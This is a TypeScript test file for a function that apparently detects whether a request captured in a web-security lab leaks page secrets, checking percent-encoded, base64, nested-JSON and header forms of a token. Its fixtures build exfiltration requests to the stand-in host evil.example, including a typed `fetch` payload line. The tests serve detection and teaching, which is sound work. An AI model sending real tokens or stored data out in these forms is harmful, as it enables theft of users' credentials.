/** Secrets are found in the encodings that payloads use, and only where they came from the page. */
import { expect, test } from 'vitest';
import type { HttpRequest } from '#http/message';
import { secretsIn } from '../../../../src/ui/lab/payload/arrived';

const TOKEN = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9.AAAA-_AAAA';
const SECRETS = [
  { name: 'access token', value: TOKEN },
  { name: 'orders', value: 'Tea pot' },
];
const at = (query: string, content = '', fields: HttpRequest['fields'] = []): HttpRequest => ({
  method: 'POST',
  url: `https://evil.example/${query}`,
  fields,
  content,
});
const names = (request: HttpRequest, typed = '') =>
  secretsIn(request, SECRETS, typed).map(({ name }) => name);
const stored = JSON.stringify({ token: TOKEN });

test.each([
  ['as it is', at(`?c=${TOKEN}`)],
  ['percent-encoded', at(`?c=${encodeURIComponent(stored)}`)],
  ['encoded twice', at(`?c=${encodeURIComponent(encodeURIComponent(stored))}`)],
  ['in base64', at('', btoa(stored))],
  ['in base64, percent-encoded', at(`?c=${encodeURIComponent(btoa(stored))}`)],
  ['in JSON within JSON', at('', JSON.stringify({ storage: stored }))],
  ['in a field', at('', '', [['X-Token', `Bearer ${TOKEN}`]])],
])('a token %s', (_name, request) => {
  expect(names(request)).toEqual(['access token']);
});

test('form encoding writes a space as plus', () => {
  expect(names(at('', 'c=Tea+pot'))).toEqual(['orders']);
});

test('nothing is found where nothing is, broken encodings included', () => {
  expect(names(at('?c=%E0%A4%A&d=%%%', `${TOKEN.slice(0, -1)} Tea  pot`))).toEqual([]);
  expect(names(at('', '%2B'.repeat(30_000)))).toEqual([]);
});

test('what the payload’s writer typed did not come from the page', () => {
  expect(names(at('?Tea pot'), `fetch('https://evil.example/?Tea pot')`)).toEqual([]);
});
